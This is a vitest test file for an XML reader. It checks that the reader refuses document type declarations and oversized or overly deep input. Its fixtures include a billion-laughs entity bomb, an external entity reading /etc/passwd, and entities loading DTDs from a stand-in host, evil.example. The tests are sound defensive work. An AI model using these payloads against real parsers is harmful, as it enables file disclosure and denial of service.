import { describe, expect, it } from 'vitest';
import { XML_LIMITS } from '../../../../analytics/formats/xml/limits.ts';
import { readXml } from '../../../../analytics/formats/xml/reader.ts';
import { refusalOf } from '../refusal.ts';

const read = (xml: string): Promise<unknown> =>
  refusalOf(() => readXml([Buffer.from(xml)], 'return.xml', {}));

const laughs = Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY lol${String(at + 1)} "${`&lol${String(at)};`.repeat(10)}">`,
);

describe('a document type declaration', () => {
  it.each([
    ['billion laughs', `<!DOCTYPE l [<!ENTITY lol0 "lol">${laughs.join('')}]><l>&lol9;</l>`],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>'],
    ['an external subset', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
    ['nothing but a name', '<?xml version="1.0"?><!-- note --><!DOCTYPE a><a/>'],
  ])('is refused with %s', async (_, xml) => {
    expect(await read(xml)).toMatchObject({
      code: 'file_unsafe',
      message: expect.stringMatching(/declares a document type/),
    });
  });

  it('is refused in UTF-16 too', async () => {
    const bytes = Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le');
    expect((await refusalOf(() => readXml([bytes], 'a.xml', {}))).code).toBe('file_unsafe');
  });

  it('is not seen in a comment or in CDATA', async () => {
    const xml = '<a><!-- <!DOCTYPE a> --><![CDATA[<!DOCTYPE a>]]></a>';
    await expect(readXml([Buffer.from(xml)], 'a.xml', {})).resolves.toBeUndefined();
  });
});

describe('a document beyond the limits', () => {
  const long = 'x'.repeat(XML_LIMITS.run + 200_000);

  it.each([
    ['elements too deep', '<a>'.repeat(XML_LIMITS.depth + 1), /more than 64 deep at line 1/],
    ['a text too long', `<a>${long}</a>`, /a text of more than 1,000,000 characters/],
    ['CDATA too long', `<a><![CDATA[${long}]]></a>`, /a text of more than/],
    ['an attribute too long', `<a><b k="${long}"/></a>`, /a text of more than/],
    ['a comment too long', `<a><!--${long}--></a>`, /a text of more than/],
    ['a name too long', `<a><${long}/></a>`, /a text of more than/],
    ['no element for long', `<!--${'x'.repeat(XML_LIMITS.prolog + 300_000)}--><a/>`, /no element/],
    [
      'a declaration for long',
      `<!DOCTYPE ${'x'.repeat(XML_LIMITS.prolog + 300_000)}><a/>`,
      /no element/,
    ],
  ])('is refused for %s', async (_, xml, message) => {
    expect(await read(xml)).toMatchObject({
      code: 'file_too_large',
      message: expect.stringMatching(message),
    });
  });

  it('may be as deep and hold texts as long as the limits say', async () => {
    const { depth, run } = XML_LIMITS;
    const xml = `${'<a>'.repeat(depth)}${'x'.repeat(run)}${'</a>'.repeat(depth)}`;
    await expect(readXml([Buffer.from(xml)], 'a.xml', {})).resolves.toBeUndefined();
  });

  it('is refused for the number of its elements before the whole of it has come', async () => {
    let sent = 0;
    function* pieces(): Generator<Uint8Array> {
      yield Buffer.from('<a>');
      for (; sent < 100; sent += 1) yield Buffer.from('<b/>'.repeat(100));
    }
    const limits = { ...XML_LIMITS, elements: 1000 };
    const refusal = await refusalOf(() => readXml(pieces(), 'a.xml', {}, limits));
    expect(refusal).toMatchObject({
      code: 'file_too_large',
      message: 'a.xml holds more than 1,000 elements.',
    });
    expect(sent).toBe(9);
  });
});
